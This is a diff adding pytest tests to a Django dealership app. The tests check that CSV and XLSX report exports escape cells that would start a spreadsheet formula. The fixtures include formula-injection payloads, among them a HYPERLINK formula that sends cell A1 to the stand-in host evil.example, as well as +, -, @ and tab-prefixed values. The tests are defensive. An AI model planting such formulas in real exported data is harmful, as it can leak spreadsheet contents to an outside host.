@@ -377,3 +377,41 @@ def test_a_line_that_would_overflow_is_refused_next_to_the_field_on_the_page(
     assert {"quantity", "unit_price"} <= set(response.context["line_errors"])
     line.refresh_from_db()
     assert (line.quantity, line.unit_price) == (1, 300)
+
+
+# --------------------------------------------------------------------- exports
+
+
+@pytest.mark.parametrize(
+    "text", ['=HYPERLINK("https://evil.example/?x="&A1,"点")', "+1+2", "-2+3", "@SUM(A1)", "\t=1"]
+)
+def test_a_cell_that_would_start_a_formula_is_exported_as_text(text):
+    from dealership.reports.exports import spreadsheet_cell
+
+    assert spreadsheet_cell(text) == "'" + text
+    assert spreadsheet_cell("王师傅") == "王师傅"
+    assert spreadsheet_cell(-12) == -12  # a number stays a number
+
+
+def test_report_exports_neutralise_a_technician_named_like_a_formula(client, make_staff):
+    import csv
+
+    from openpyxl import load_workbook
+
+    from dealership.models import Technician
+    from dealership.tests import test_reports_figures as data
+
+    data.build_store()
+    evil = '=HYPERLINK("https://evil.example/","点我")'
+    Technician.objects.filter(name="王师傅").update(name=evil, team="@团队")
+    client.force_login(make_staff("service_manager"))
+    client.cookies["django_language"] = "en"
+    query = "?table=technicians&period=month&date=2026-01-01"
+    response = client.get(reverse("reports:export_csv") + query)
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert ["'" + evil, "'@团队"] in [row[:2] for row in rows]
+    response = client.get(reverse("reports:export_xlsx") + query)
+    sheet = load_workbook(io.BytesIO(response.content))["Technician hours"]
+    names = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert "'" + evil in names
+    assert not any(str(cell.value).startswith("=") for row in sheet.iter_rows() for cell in row)
